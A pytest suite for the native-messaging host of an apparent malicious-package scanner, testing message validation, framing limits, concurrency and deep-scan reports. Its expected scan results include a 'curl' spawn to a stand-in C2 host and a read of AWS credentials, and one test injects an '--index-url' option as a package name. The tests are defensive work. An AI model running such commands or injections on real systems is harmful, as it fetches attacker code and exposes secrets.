"""The native host as a real subprocess: every message type, bad input, limits, concurrency."""

from __future__ import annotations

import importlib.util
import struct
import time

import pytest

# The host with the test's fake scan function handed to main() (no sandbox needed).
FAKE_HOST = ("import sys; from host_test_fake_scan import slow_scan; "
             "from slopspotter_lab.host.native import main; sys.exit(main(scan=slow_scan))")
MIB = 1024 * 1024


def _still_serving(h, tag="after"):
    h.send({"type": "ping", "id": tag})
    reply = h.recv()
    assert reply["success"] is True and reply["id"] == tag


def test_ping_answers_fast_with_version_backends_and_model(host_factory):
    h = host_factory()
    h.send({"type": "ping"})
    reply = h.recv(timeout=5)
    elapsed = time.monotonic() - h.started
    assert reply["success"] is True
    assert reply["version"]
    assert isinstance(reply["backends"], list)
    assert isinstance(reply["model"], dict) and "loaded" in reply["model"]
    assert "id" not in reply
    assert elapsed < 1.5, f"first ping took {elapsed:.3f}s"
    rc, _ = h.close()
    assert rc == 0


@pytest.mark.parametrize("message, fragment", [
    ({"type": "teleport"}, "unknown message type"),
    ({"packages": []}, "'type'"),
    ({"type": 7}, "'type'"),
    ({"type": "check", "packages": "requests"}, "'packages' must be a list"),
    ({"type": "check", "packages": []}, "empty"),
    ({"type": "check", "packages": [42]}, "packages[0]"),
    ({"type": "check", "packages": [{"name": 5, "ecosystem": "pypi"}]}, "must be strings"),
    ({"type": "check", "packages": ["x"], "offline": "yes"}, "'offline' must be a boolean"),
    ({"type": "deep-scan", "packageName": 12}, "'packageName' must be a string"),
    ({"type": "deep-scan"}, "missing field 'packageName'"),
    ({"type": "deep-scan", "packageName": "x", "timeout": True}, "'timeout'"),
    ({"type": "ping", "id": [1]}, "'id'"),
])
def test_bad_messages_get_an_error_reply_and_the_host_goes_on(host_factory, message, fragment):
    h = host_factory()
    h.send(message)
    reply = h.recv()
    assert reply["success"] is False
    assert fragment in reply["error"]
    _still_serving(h)


@pytest.mark.parametrize("body, fragment", [
    (b"{not json", "malformed JSON"),
    (b"\xff\xfe\x00garbage", "malformed JSON"),
    (b"[1, 2, 3]", "must be a JSON object"),
    (b"", "malformed JSON"),
])
def test_malformed_frames_bodies(host_factory, body, fragment):
    h = host_factory()
    h.send_raw(struct.pack("=I", len(body)) + body)
    reply = h.recv()
    assert reply["success"] is False and fragment in reply["error"]
    _still_serving(h)


def test_id_is_echoed_on_success_and_error(host_factory):
    h = host_factory()
    h.send({"type": "ping", "id": 17})
    assert h.recv()["id"] == 17
    h.send({"type": "nope", "id": "abc"})
    reply = h.recv()
    assert reply["id"] == "abc" and reply["success"] is False


def test_truncated_frame_gets_error_then_clean_exit(host_factory):
    h = host_factory()
    h.send_raw(struct.pack("=I", 100) + b'{"type": "pi')
    h.proc.stdin.close()
    reply = h.recv()
    assert reply["success"] is False and "truncated" in reply["error"]
    rc, err = h.close()
    assert rc == 0
    assert "truncated" in err  # logged on stderr, not stdout


def test_oversized_length_header_is_refused_and_stream_resyncs(host_factory):
    h = host_factory()
    size = 64 * MIB + 1
    h.send_raw(struct.pack("=I", size))
    reply = h.recv()
    assert reply["success"] is False and "refused" in reply["error"]
    chunk = b"\0" * MIB
    for _ in range(size // MIB):
        h.send_raw(chunk)
    h.send_raw(b"\0" * (size % MIB))
    _still_serving(h, "resynced")


def test_many_messages_in_a_row_keep_order(host_factory):
    h = host_factory()
    n = 300
    burst = b"".join(struct.pack("=I", len(b)) + b for b in
                     (f'{{"type": "ping", "id": {i}}}'.encode() for i in range(n)))
    h.send_raw(burst)
    ids = [h.recv()["id"] for _ in range(n)]
    assert ids == list(range(n))


def test_deep_scan_in_flight_does_not_block_ping(host_factory):
    h = host_factory(wrapper=FAKE_HOST, env_extra={"FAKE_SCAN_SECONDS": "3"})
    t0 = time.monotonic()
    h.send({"type": "deep-scan", "packageName": "evil-pkg", "language": "Python", "id": "scan-1"})
    for i in range(5):
        h.send({"type": "ping", "id": i})
        reply = h.recv(timeout=2)
        assert reply["id"] == i and reply["success"] is True
    assert time.monotonic() - t0 < 2.5, "pings waited for the scan"
    scan = h.recv(timeout=15)
    assert scan["id"] == "scan-1" and scan["success"] is True
    res = scan["result"]
    assert res["packageName"] == "evil-pkg" and res["language"] == "Python"
    assert res["isMalicious"] is True and res["confidence"] == pytest.approx(0.93)
    assert res["indicators"][0].startswith("[high] honeytoken_read")
    assert any("c2.example.invalid" in c for c in res["networkConnections"])
    assert res["fileOperations"][0].startswith("read /home/dev/.aws/credentials [honeytoken]")
    assert res["processSpawns"] == ["sh -c curl http://c2.example.invalid"]
    assert res["error"] is None
    rc, err = h.close()
    assert rc == 0 and "noise a careless library printed" in err


def test_pending_scan_is_answered_after_stdin_closes(host_factory):
    h = host_factory(wrapper=FAKE_HOST, env_extra={"FAKE_SCAN_SECONDS": "1"})
    h.send({"type": "deep-scan", "packageName": "left-pad", "language": "JavaScript", "id": 9})
    h.proc.stdin.close()
    reply = h.recv(timeout=15)
    assert reply["id"] == 9 and reply["result"]["language"] == "JavaScript"
    assert h.close()[0] == 0


def test_scan_crash_becomes_error_reply(host_factory):
    h = host_factory(wrapper=FAKE_HOST, env_extra={"FAKE_SCAN_SECONDS": "0"})
    h.send({"type": "deep-scan", "packageName": "crash-me", "language": "python"})
    reply = h.recv()
    assert reply["success"] is False and "fake scan crashed" in reply["error"]
    _still_serving(h)


@pytest.mark.parametrize("language", ["Go", "Rust", "Ruby"])
def test_other_languages_are_heuristic_only(host_factory, language):
    h = host_factory(wrapper=FAKE_HOST)
    h.send({"type": "deep-scan", "packageName": "github.com/x/y", "language": language})
    reply = h.recv()
    assert reply == {"success": False, "error": "Deep scan not available; heuristic only.", "heuristicOnly": True}


def test_invalid_package_name_in_deep_scan_is_refused_without_scanning(host_factory):
    h = host_factory(wrapper=FAKE_HOST, env_extra={"FAKE_SCAN_SECONDS": "30"})
    t0 = time.monotonic()
    h.send({"type": "deep-scan", "packageName": "--index-url=http://evil", "language": "Python"})
    reply = h.recv(timeout=5)
    assert reply["success"] is False and "option" in reply["error"]
    assert time.monotonic() - t0 < 5


def test_oversized_reply_is_trimmed_under_1_mib_and_says_so(host_factory):
    h = host_factory(wrapper=FAKE_HOST, env_extra={"FAKE_SCAN_SECONDS": "0"})
    h.send({"type": "deep-scan", "packageName": "huge-report", "language": "Python", "id": "big"})
    frame = h.recv_frame(timeout=20)
    assert len(frame) <= MIB
    import json
    reply = json.loads(frame)
    assert reply["success"] is True and reply["id"] == "big"
    assert reply["trimmed"] and all(t["kept"] < t["total"] for t in reply["trimmed"])
    assert reply["result"]["packageName"] == "huge-report"


_CHECK = importlib.util.find_spec("slopspotter_lab.check") is not None
needs_check = pytest.mark.skipif(not _CHECK, reason="slopspotter_lab.check not written yet")

HEAVY = ("pandas", "numpy", "sklearn", "docker", "libvirt", "matplotlib")
WRAPPER = (
    "import sys\n"
    "from slopspotter_lab.host import native\n"
    "rc = native.main()\n"
    "heavy = sorted(m for m in sys.modules if m.split('.')[0] in %r)\n"
    "print('HEAVY=' + ','.join(heavy), file=sys.stderr)\n"
    "sys.exit(rc)\n" % (HEAVY,)
)


def test_ping_does_not_import_heavy_modules(host_factory):
    h = host_factory(wrapper=WRAPPER)
    h.send({"type": "ping"})
    assert h.recv()["success"] is True
    rc, err = h.close()
    assert rc == 0 and "HEAVY=\n" in err, err[-500:]


@needs_check
def test_offline_check_without_heavy_imports(host_factory):
    h = host_factory(wrapper=WRAPPER)
    h.send({"type": "check", "offline": True, "id": "c", "packages": [
        {"name": "requests", "ecosystem": "pypi"},
        {"name": "reqeusts", "ecosystem": "pypi"},
        {"name": "bad name", "ecosystem": "pypi"},
        {"name": "express", "ecosystem": "npm"},
        {"name": "serde", "ecosystem": "cargo"},
    ]})
    reply = h.recv(timeout=30)
    assert reply["success"] is True and reply["id"] == "c"
    res = reply["results"]
    assert [r["name"] for r in res] == ["requests", "reqeusts", "bad name", "express", "serde"]
    assert res[1]["typosquat_of"] == "requests"
    assert res[1]["score"] > res[0]["score"]
    assert res[2]["error"] and res[4]["error"] and res[2]["risk"] is None
    assert res[3]["ecosystem"] == "npm" and res[3]["risk"] in ("low", "medium", "high")
    rc, err = h.close()
    assert rc == 0 and "HEAVY=\n" in err, err[-500:]


@pytest.mark.docker
def test_real_deep_scan_of_synthetic_package_from_loopback_registry(host_factory, pypi_server, pypi_json_server, tmp_path):
    """A real Docker scan through the host: the package comes from a loopback PyPI, pings go on."""
    from pathlib import Path

    src = Path(__file__).resolve().parents[1] / "corpus" / "extra" / "pypi" / "b64-dropper"
    pypi_server.publish_dir(src, "b64-dropper", "0.1.0")
    h = host_factory(env_extra={"SLOPSPOTTER_PYPI_URL": pypi_json_server.url,
                                "SLOPSPOTTER_PYPI_SIMPLE_URL": pypi_server.simple_url,
                                "SLOPSPOTTER_NPM_URL": "http://127.0.0.1:9",
                                "SLOPSPOTTER_CACHE_DIR": str(tmp_path / "cache")})
    h.send({"type": "deep-scan", "packageName": "b64-dropper", "language": "Python", "id": "real"})
    time.sleep(0.5)
    t0 = time.monotonic()
    h.send({"type": "ping", "id": "during"})
    reply = h.recv(timeout=5)
    assert reply["id"] == "during" and time.monotonic() - t0 < 2
    scan = h.recv(timeout=300)
    assert scan["id"] == "real", scan
    assert scan["success"] is True, scan
    res = scan["result"]
    assert res["isMalicious"] is True and res["confidence"] > 0.5
    ids = {d["id"] for d in res["indicatorDetails"]}
    assert {"encoded_exec", "downloader_spawn"} <= ids
    assert any("payload.example.invalid" in c for c in res["networkConnections"])
    assert any("curl" in p for p in res["processSpawns"])


def test_cli_host_subcommand_serves_frames(host_factory):
    h = host_factory(wrapper="import sys; from slopspotter_lab.cli import main; sys.exit(main(['host']))")
    h.send({"type": "ping", "id": "cli"})
    reply = h.recv()
    assert reply["success"] is True and reply["id"] == "cli"
    assert reply["model"]["loaded"] is True and reply["model"]["name"]
    assert h.close()[0] == 0
